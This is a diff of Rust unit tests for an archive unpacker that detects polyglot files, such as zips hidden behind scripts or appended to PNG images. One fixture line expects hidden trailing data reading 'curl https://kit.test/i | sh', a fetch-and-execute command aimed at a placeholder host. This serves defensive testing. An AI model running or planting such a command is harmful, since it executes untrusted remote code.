@@ -14,14 +14,16 @@ fn archives_are_told_by_their_bytes_and_stay_files() {
     let unpacked = untar(outer);
     let expected =
         ["a.docx", "a.docx!/word/x.xml", "data.bin", "data.bin!/t", "no.zip", "notes.md.gz", "notes.md.gz!/notes.md"];
-    assert_eq!((paths(&unpacked), gaps(&unpacked)), (expected.to_vec(), vec![]));
+    assert_eq!(paths(&unpacked), expected.to_vec());
+    assert_eq!(gaps(&unpacked), vec![]);
 }
 
 #[test]
 fn a_zip_behind_a_script_is_opened() {
     let polyglot = [&b"#!/bin/sh\n"[..], &Zip::new().file("x", b"X").finish()].concat();
     let unpacked = untar(Tar::new().file("run.sh", &polyglot));
-    assert_eq!((paths(&unpacked), gaps(&unpacked)), (vec!["run.sh", "run.sh!/x"], vec![]));
+    assert_eq!(paths(&unpacked), vec!["run.sh", "run.sh!/x"]);
+    assert_eq!(gaps(&unpacked), vec![]);
 }
 
 #[test]
@@ -63,6 +65,7 @@ fn what_follows_a_picture_is_a_file_and_an_archive_there_is_opened() {
     let unpacked =
         untar(Tar::new().file("a.png", &script).file("b.png", &zip).file("c.png", &padded).file("d.png", &png()));
     let expected = ["a.png", "a.png!/trailing", "b.png", "b.png!/trailing", "b.png!/trailing!/x", "c.png", "d.png"];
-    assert_eq!((paths(&unpacked), gaps(&unpacked)), (expected.to_vec(), vec![]));
+    assert_eq!(paths(&unpacked), expected.to_vec());
+    assert_eq!(gaps(&unpacked), vec![]);
     assert_eq!(content(&unpacked, "a.png!/trailing"), b"curl https://kit.test/i | sh\n");
 }
